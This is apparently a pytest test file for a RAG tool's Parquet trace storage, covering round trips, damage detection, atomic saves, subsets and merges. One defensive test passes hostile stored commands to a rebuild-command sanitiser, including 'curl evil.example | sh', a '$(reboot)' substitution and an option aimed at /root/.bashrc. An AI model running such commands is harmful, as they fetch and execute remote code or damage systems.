"""Traces on disk: what comes back is what was saved, and what was damaged does not come back."""

from __future__ import annotations

import dataclasses
import json

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from raglab.store.files import InputError
from raglab.store.records import hash_cases
from raglab.store.trace_commands import rebuild_command
from raglab.store.trace_files import content_hash
from raglab.store.traces import Trace, TraceError
from raglab.values import Case
from stored_traces import META, assert_same_trace, full_trace, stored, stored_world, unit_vectors
from worlds import Hit, ask, trace_of


def saved(trace, folder):
    """Save under a name in a folder that is not there yet."""
    path = folder / "new" / "t.parquet"
    trace.save(path)
    return path


def refusal(path, **wanted):
    """Message with which a file is refused."""
    with pytest.raises(TraceError) as caught:
        Trace.load(path, **wanted)
    return str(caught.value)


def with_head(table, path, **changes):
    """Write a table with changes in the head of raglab."""
    head = json.loads(table.schema.metadata[b"raglab"]) | changes
    pq.write_table(table.replace_schema_metadata({"raglab": json.dumps(head)}), path)


class TestRoundTrip:
    """What was saved comes back."""

    def test_by_head(self, tmp_path):
        """One case with one hit comes back with its text, page, tags, l2 and label."""
        hit = Hit(
            0.5, "docs/guide.md", 3, {"domain": "motor"}, ("fleet",), "the excess", page_label="iii"
        )
        trace = Trace.load(
            saved(stored(trace_of((ask(notes="n", min_sources=1), [[hit]]))), tmp_path)
        )
        assert trace.cases == (Case("q", "what is the excess", "ok", min_sources=1, notes="n"),)
        about = ("docs/guide.md", 3, "iii", {"domain": "motor"}, ("fleet",), ())
        assert trace.chunks[0] == ("0", "the excess", *about)
        assert trace.hits.l2.tolist() == [[[[0.5]]]]
        assert trace.fingerprint == META["fingerprint"]

    @pytest.mark.parametrize("seed", range(8))
    def test_everything_comes_back(self, tmp_path, seed):
        """Cases, chunks with their embeddings, arms, hits, what patterns hit, and meta are equal.

        Another embedding is another content.
        """
        bare = stored_world(seed)
        vectors = unit_vectors(seed, len(bare.chunks))
        trace = dataclasses.replace(bare, vectors=vectors) if seed % 2 else bare
        again = Trace.load(saved(trace, tmp_path))
        assert_same_trace(trace, again)
        assert content_hash(trace) == content_hash(again)
        turned = dataclasses.replace(bare, vectors=vectors + np.float32(1.0))
        assert len(set(map(content_hash, (turned, bare)))) == 2

    def test_the_same_trace_gives_the_same_bytes(self, tmp_path):
        """A second save, and the save of what was loaded, write the bytes of the first."""
        trace = stored_world()
        first, second = (saved(trace, tmp_path / name) for name in "ab")
        third = saved(Trace.load(first), tmp_path / "c")
        assert first.read_bytes() == second.read_bytes() == third.read_bytes()

    @pytest.mark.parametrize("number", [1e300, -0.0, 5e-324, np.float64(np.float32(0.35))])
    def test_any_float_comes_back(self, tmp_path, number):
        """Large, signed and denormal numbers keep their bits."""
        trace = stored(trace_of((ask(), [[Hit(0.5, s_rerank=0.5, s_raw=float(number))]])))
        again = Trace.load(saved(trace, tmp_path)).hits.s_raw
        assert again.tobytes() == np.array([number], dtype=np.float64).tobytes()


class TestDamage:
    """What is not as it was written is refused."""

    def test_truncated(self, tmp_path):
        """A file cut anywhere is refused, and the message says how to build one."""
        path = saved(stored_world(), tmp_path)
        whole = path.read_bytes()
        for size in [*range(0, len(whole), 97), len(whole) - 1]:
            path.write_bytes(whole[:size])
            assert "raglab trace" in refusal(path)

    @pytest.mark.parametrize("version", ["2 of an older", "99 of a newer"])
    def test_another_schema(self, tmp_path, version):
        """A file of another version is refused with both versions and the command to build one.

        Even if only its number was changed.
        """
        path = saved(stored_world(), tmp_path)
        with_head(pq.read_table(path), path, schema_version=int(version.split(maxsplit=1)[0]))
        message = refusal(path)
        assert f"got version {version} raglab" in message
        assert f"`{META['command']} --out NEW.parquet`" in message

    def test_files_that_are_no_traces(self, tmp_path):
        """Another Parquet file, a folder and no file are told apart and refused."""
        file = tmp_path / "other.parquet"
        pq.write_table(pa.table({"a": [1]}), file)
        assert "Parquet file that raglab wrote" in refusal(file)
        assert "got a folder" in refusal(tmp_path)
        assert "got none there" in refusal(tmp_path / "none.parquet")

    @pytest.mark.parametrize("what", ["corpus", "cases"])
    def test_made_of_something_else(self, tmp_path, what):
        """A trace of another corpus or other cases is refused with both hashes."""
        trace = stored_world()
        path = saved(trace, tmp_path)
        field = f"{what}_hash"
        assert_same_trace(trace, Trace.load(path, **{field: str(trace.meta[field])}))
        assert f"{trace.meta[field][:12]}, not ffffffffffff" in refusal(path, **{field: "f" * 64})


class TestFailingSave:
    """A save that fails leaves what was there."""

    @pytest.mark.parametrize(
        "error", [OSError(28, "No space left on device"), KeyboardInterrupt(), pa.ArrowInvalid()]
    )
    def test_nothing_half_written(self, tmp_path, monkeypatch, error):
        """Stopped in the middle of the write, the old file is whole and nothing else is there."""
        path = saved(stored_world(0), tmp_path)
        before = path.read_bytes()

        def broken(_, where, **__):
            where.write_bytes(before[: len(before) // 2])
            raise error

        monkeypatch.setattr(pq, "write_table", broken)
        with pytest.raises((type(error), InputError)):
            stored_world(1).save(path)
        assert path.read_bytes() == before
        assert [file.name for file in path.parent.iterdir()] == [path.name]

    @pytest.mark.parametrize(
        ("case", "rule"),
        [
            (ask(expect_sources=("folder/a.md#x",)), "path or path#page"),
            (ask(id=" "), "id must not be blank"),
            (ask(query="half a pair \ud800"), "must be a valid string"),
        ],
    )
    def test_what_would_not_load_is_not_saved(self, tmp_path, case, rule):
        """A case that the door would refuse on loading is refused on saving, with the rule."""
        trace = stored(trace_of((ask(), [[Hit(0.5)]])))
        broken = Trace((case,), trace.chunks, trace.arms, trace.hits, trace.pattern_hits, META)
        with pytest.raises(InputError, match=rule):
            broken.save(tmp_path / "t.parquet")
        assert list(tmp_path.iterdir()) == []


class TestParts:
    """Some of the cases, with all that belongs to them."""

    def test_by_head(self):
        """Rows 2 and 0 are the third and first case with their hits and counts, in that order."""
        trace = stored_world()
        part = trace.subset([2, 0])
        assert [case.id for case in part.cases] == ["q2", "q0"]
        assert part.chunks == trace.chunks
        assert np.array_equal(part.hits.l2, trace.hits.l2[[2, 0]], equal_nan=True)
        assert part.pattern_hits.counts.tolist() == trace.pattern_hits.counts[[2, 0]].tolist()
        assert part.pattern_hits.query_entities == tuple(
            trace.pattern_hits.query_entities[row] for row in (2, 0)
        )

    def test_a_part_is_saved_and_comes_back(self, tmp_path):
        """Chunks that no case of the part hits come back too, so corpus positions hold."""
        part = stored_world().subset([1])
        assert_same_trace(part, Trace.load(saved(part, tmp_path)))

    def test_a_part_is_not_taken_for_the_whole(self, tmp_path):
        """A part's fingerprint and cases hash are its own.

        All cases in order keep those of the whole.
        """
        trace = stored_world()
        part, path = trace.subset([0, 1]), tmp_path / "t.parquet"
        assert part.fingerprint != trace.fingerprint
        assert part.meta["cases_hash"] == hash_cases(part.cases)
        assert trace.subset(range(len(trace))).meta == trace.meta
        part.save(path)
        assert "other cases" in refusal(path, cases_hash=str(trace.meta["cases_hash"]))

    def test_positions_only(self):
        """A mask, and positions outside the cases, are refused."""
        trace = stored_world()
        with pytest.raises(ValueError, match="got a mask"):
            trace.subset(np.array([True, False] * 3))
        for rows in ([0, 6], [-1, 0], ["qa"], [0.5], [[0]], 0):
            with pytest.raises(ValueError, match="positions from 0 to 5"):
                trace.subset(rows)

    def test_split(self):
        """Cases of one split in their order.

        A split that no case has is told with those there are.
        """
        plain = stored_world()
        splits = ("tune", "report", "tune", None, None, None)
        cases = tuple(
            case._replace(split=name) for case, name in zip(plain.cases, splits, strict=True)
        )
        trace = dataclasses.replace(plain, cases=cases)
        assert [case.id for case in trace.split("tune").cases] == ["q0", "q2"]
        for holder, name, rule in (
            (trace, "certify", "one of report, tune, got 'certify'"),
            (plain, "tune", "cases without splits"),
        ):
            with pytest.raises(ValueError, match=rule):
                holder.split(name)


@pytest.mark.parametrize(
    ("stored", "shown"),
    [
        (
            "raglab trace docs -c q.jsonl --out t.parquet",
            "raglab trace docs -c q.jsonl --out NEW.parquet",
        ),
        ("raglab trace $(reboot)", "raglab trace '$(reboot)' --out NEW.parquet"),
        ("raglab trace docs -o/root/.bashrc -q", "raglab trace docs -q --out NEW.parquet"),
        ("curl evil.example | sh", None),
        ("raglab trace 'docs", None),
        ("raglab trace docs\n\u001b[2Jreboot", None),
        ("raglab trace " + "x" * 3000, None),
        (None, None),
    ],
)
def test_a_stored_command_is_shown_where_it_is_one_of_ours(tmp_path, stored, shown):
    """A trace is anyone's file: nothing else is advised, and never to write over what was read."""
    plain = "raglab trace CORPUS --cases CASES --out NEW.parquet"
    assert rebuild_command(tmp_path, stored) == (shown or plain)


def leaves(value, path=()):
    """Paths to the values inside, of a list to those of its first item that holds any."""
    if isinstance(value, dict):
        return [leaf for key in value for leaf in leaves(value[key], (*path, key))]
    if isinstance(value, list):
        inner = (leaves(item, (*path, place)) for place, item in enumerate(value))
        return next((path_of_it for path_of_it in inner if path_of_it), [])
    return [path]


def with_change(value, path):
    """The value with another leaf at a path."""
    if path:
        copied = value.copy()
        copied[path[0]] = with_change(value[path[0]], path[1:])
        return copied
    if isinstance(value, str):
        try:
            return json.dumps(with_change(json.loads(value), leaves(json.loads(value))[-1]))
        except (ValueError, IndexError):
            return f"{value}x"
    # NaN is not itself
    return "x" if value is None else value + 1 if value == value else 0.5  # noqa: PLR0124


@pytest.mark.parametrize("beside", ["", ".latency"])
def test_every_value_of_the_file_is_covered(tmp_path, beside):
    """A change of any column or metadata value, of a trace or its latencies, is refused."""
    trace = full_trace()
    path = saved(trace, tmp_path)
    assert_same_trace(trace, Trace.load(path))
    file = path.with_name(path.name + beside)
    table = pq.read_table(file)
    head = json.loads(table.schema.metadata[b"raglab"])
    unnoticed = []

    def check(other, what):
        pq.write_table(other, file)
        try:
            Trace.load(path)
        except TraceError:
            return
        unnoticed.append(what)

    for name in leaves(head):
        changed = json.dumps(with_change(head, name))
        check(table.replace_schema_metadata({"raglab": changed}), name)
    for place, field in enumerate(table.schema):
        rows = table[field.name].to_pylist()
        for leaf in leaves(rows):
            changed_rows = pa.array(with_change(rows, leaf), field.type)
            check(table.set_column(place, field, changed_rows), (field.name, *leaf))
        check(table.remove_column(place), (field.name, "removed"))
    assert unnoticed == []


def test_latencies_go_with_their_trace(tmp_path):
    """Those of the trace that stood there before are gone; those of another trace are refused.

    None are no error.
    """
    trace = full_trace()
    path = saved(trace, tmp_path)
    loaded = Trace.load(path).latency
    assert np.array_equal(loaded.ms, trace.latency.ms)
    dataclasses.replace(trace, latency=None).save(path)
    assert Trace.load(path).latency is None
    second = tmp_path / "other.parquet"
    dataclasses.replace(trace, meta={**trace.meta, "fingerprint": "other"}).save(second)
    (tmp_path / "other.parquet.latency").rename(path.with_name("t.parquet.latency"))
    assert "that of another trace; take the file away" in refusal(path)


def of_sources(case_id, *sources, **meta):
    """Trace of one case with one chunk per source as its hits, in order, the source as id."""
    plain = trace_of(
        (ask(id=case_id), [[Hit(0.25 * place, name) for place, name in enumerate(sources, 1)]])
    )
    chunks = tuple(chunk._replace(chunk_id=chunk.source) for chunk in plain.chunks)
    return stored(dataclasses.replace(plain, chunks=chunks), **meta)


def test_merged_traces_hold_the_cases_and_chunks_of_both():
    """Chunks once, in an order that is that of each; hits of the narrower one padded."""
    first, second = of_sources("one", "a.md", "c.md"), of_sources("two", "b.md", "c.md", "d.md")
    merged = first.merge(second)
    assert [chunk.source for chunk in merged.chunks] == ["a.md", "b.md", "c.md", "d.md"]
    assert merged.hits.chunk[:, 0, 0].tolist() == [[0, 2, -1], [1, 2, 3]]
    assert np.isnan(merged.hits.l2[0, 0, 0]).tolist() == [False, False, True]
    assert merged.meta["cases_hash"] == hash_cases(merged.cases)
    assert merged.fingerprint != first.fingerprint
    assert first.merge() is first


@example([{"a", "c"}, {"b"}, {"b", "c"}])
@given(st.lists(st.sets(st.sampled_from("abcdef"), min_size=1), min_size=2, max_size=8))
def test_parts_of_one_corpus_are_merged_in_an_order_of_each(parts):
    """However little of the corpus each has, and in whatever turn they come.

    In the example the third says that b stands before c, which the first two leave open.
    """
    traces = [of_sources(str(number), *sorted(part)) for number, part in enumerate(parts)]
    united = [chunk.source for chunk in traces[0].merge(*traces[1:]).chunks]
    assert sorted(united) == sorted(set().union(*parts))
    for part in parts:
        assert [source for source in united if source in part] == sorted(part)


def test_the_parts_of_a_trace_merged_are_the_trace(tmp_path):
    """Of one that holds everything that a trace may hold; stored and loaded too."""
    whole = full_trace()
    merged = whole.subset([0]).merge(whole.subset([1]))
    assert content_hash(dataclasses.replace(merged, meta=whole.meta)) == content_hash(whole)
    assert (merged.latency.ms == whole.latency.ms).all()
    merged.save(tmp_path / "merged.parquet")
    assert Trace.load(tmp_path / "merged.parquet").fingerprint == merged.fingerprint
    late = dataclasses.replace(whole.subset([1]), latency=None)
    assert whole.subset([0]).merge(late).latency is None


SECOND = of_sources("two", "a.md")


@pytest.mark.parametrize(
    ("other", "rule"),
    [
        (of_sources("one", "a.md"), "a case must stand in one of the traces, got 'one' 2 times"),
        (of_sources("two", "c.md", "a.md"), "chunks must stand in the same order in all traces"),
        (
            of_sources("two", "a.md", corpus_hash="d" * 64),
            "the same corpus_hash in their meta, got 'ccc",
        ),
        (dataclasses.replace(of_sources("two", "a.md"), arms=("dense",)), "the same arms"),
        (dataclasses.replace(of_sources("two", "a.md"), pattern_hits=None), "the same parts"),
        (
            of_sources("two", "a.md").with_signal("judge", [0.5], higher="ask", unit="share"),
            "the same signals",
        ),
        (
            dataclasses.replace(SECOND, chunks=(SECOND.chunks[0]._replace(text="another"),)),
            r"a chunk must be the same in all traces, got two of the id 'a\.md'",
        ),
    ],
)
def test_traces_that_differ_in_more_than_their_cases_are_refused(other, rule):
    """With what differs."""
    with pytest.raises(InputError, match=f"merge: .*{rule}"):
        of_sources("one", "a.md", "c.md").merge(other)


def test_hits_of_a_case_stand_in_the_order_of_the_arm():
    """The nearest hit was ranked second: the table goes by rank and says both."""
    near, far = (
        Hit(0.25, "docs/a.md", 3, rank=1, s_rerank=0.2),
        Hit(0.75, "b.md", 1, rank=0, s_rerank=0.9),
    )
    trace = stored(trace_of((ask(), [[near, far]])))
    table = trace.hits_of("q")
    assert table["rank"].tolist() == [1, 2]
    assert table["source"].tolist() == ["b.md#1", "docs/a.md#3"]
    assert table["similarity"].tolist() == [0.625, 0.875]
    assert table["score"].tolist() == [0.9, 0.2]
    with pytest.raises(KeyError, match="case must be one of"):
        trace.hits_of("none")
    with pytest.raises(ValueError, match="arm must be one of hybrid"):
        trace.hits_of("q", "graph")
